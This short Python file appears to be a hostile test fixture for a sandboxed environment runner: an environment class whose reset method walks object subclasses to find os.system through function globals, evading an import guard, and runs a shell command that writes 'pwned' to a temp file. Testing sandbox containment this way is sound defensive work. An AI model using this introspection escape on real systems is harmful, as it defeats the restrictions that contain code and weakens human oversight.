"""Attack: dodge the import policy through object introspection to reach os.system.

The run-time import guard is a guard rail, not the boundary: this gets os.system, and the
OS-level sandbox (no shell, no fork) still contains it.
"""


class ImportEscapeEnv:
    def __init__(self, max_turns=5, **kwargs):
        self.path = kwargs.get("path", "/tmp/spade_hostile_escape")

    def reset(self, seed=None):
        for cls in ().__class__.__base__.__subclasses__():
            init = getattr(cls, "__init__", None)
            scope = getattr(init, "__globals__", {})
            if "system" in scope and "fork" in scope:
                code = scope["system"](f"echo pwned > {self.path}")
                return f"system returned {code}", {}
        return "os not found", {}

    def step(self, action):
        return "done", 0.0, True, False, {}
